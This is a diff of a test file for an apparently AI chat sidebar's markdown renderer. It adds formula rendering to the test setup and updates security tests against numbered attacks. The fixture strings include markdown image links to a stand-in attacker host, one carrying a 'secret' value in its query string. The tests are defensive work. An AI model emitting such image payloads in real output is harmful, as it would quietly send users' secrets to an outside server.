@@ -9,6 +9,7 @@ import { createArrangement } from "../../webview/chat/arrangement.ts";
 import { ChatContext } from "../../webview/chat/context.ts";
 import { TranscriptRow } from "../../webview/chat/TranscriptRow.tsx";
 import { MarkdownContext } from "../../webview/shared/markdown/context.ts";
+import { drawFormula } from "../../webview/shared/markdown/drawFormula.ts";
 import { createHighlight } from "../../webview/shared/markdown/highlight.ts";
 import { createLog, createWorld, ref } from "./support/chatHost.ts";
 import { drawOn, type PageNode } from "./support/page.ts";
@@ -113,7 +114,15 @@ function drawn(list: readonly TranscriptItem[], look: (page: PageNode) => void):
     for (const step of item.type === "turn" ? item.steps : [])
       for (const id of [step.span, `${step.span} 1`]) arrangement.fold(id, true);
   const unexpected = () => assert.fail("Something happened without a click.");
-  const markdown = { openLink: unexpected, copy: unexpected, insert: unexpected, highlight, near: () => () => {} };
+  const formulas = { draw: drawFormula, load: unexpected };
+  const markdown = {
+    openLink: unexpected,
+    copy: unexpected,
+    insert: unexpected,
+    highlight,
+    formulas,
+    near: () => () => {},
+  };
   const page = { model: world.model, arrangement, place: "sidebar" } as const;
   drawOn(
     <ChatContext.Provider value={page}>
@@ -210,7 +219,7 @@ test("attack 30: a link that would run a command is none, in any place", (contex
   context.diagnostic(`${links.length} attacks`);
 });
 
-test("attacks 31, 32: no image, diagram or formula is loaded or laid out, in any place", (context) => {
+test("attacks 31, 32: no image, diagram or hostile formula is loaded or laid out, in any place", (context) => {
   const texts = [
     "![x](https://evil.example/?d=secret)",
     "[![x](https://evil.example/a.png)](https://evil.example)",
